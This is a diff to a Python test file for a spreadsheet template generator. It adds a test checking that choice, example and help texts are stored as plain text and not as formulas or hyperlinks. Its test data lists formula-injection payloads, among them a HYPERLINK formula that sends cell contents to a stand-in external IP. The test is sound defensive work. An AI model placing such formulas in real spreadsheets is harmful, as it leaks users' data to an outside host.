@@ -1,5 +1,6 @@
 """Templates and failure files: what a user fills in, and gets back."""
 
+import zipfile
 from datetime import date
 from pathlib import Path
 from zoneinfo import ZoneInfo
@@ -126,3 +127,35 @@ def test_failures_in_one_go(tmp_path: Path) -> None:
     written = write_failures(tmp_path / "a.xlsx", layout, [(["张三", 4.5], []), ([], [])], "zh-hans")
     assert written.rows == 2
     assert openpyxl.load_workbook(tmp_path / "a.xlsx").active["B2"].value == "4.5"
+
+
+HOSTILE = (
+    '=HYPERLINK("http://203.0.113.9/?"&A1,"点")',
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "http://203.0.113.9/",
+    "007",
+    'a",b',
+)
+
+
+@pytest.mark.promise("F1")
+@pytest.mark.parametrize("count", [1, 60])
+def test_whatever_a_choice_says_is_text(count: int, tmp_path: Path) -> None:
+    texts = [f"{text}{n}" for n in range(count) for text in HOSTILE]
+    choices = tuple(Choice(text) for text in texts)
+    columns = tuple(
+        Column(f"c{place}", text, text, kind=ColumnKind.CHOICE, choices=choices, example=text, help=text)
+        for place, text in enumerate(texts[: len(HOSTILE)])
+    )
+    path = tmp_path / "template.xlsx"
+    write_template(path, Sheet("hostile", "表", columns), "zh-hans")
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}
+    assert not [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text]
+    book = openpyxl.load_workbook(path)
+    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
+    hidden = [str(cell.value) for cell in book["lists"]["A"]]
+    assert hidden == texts
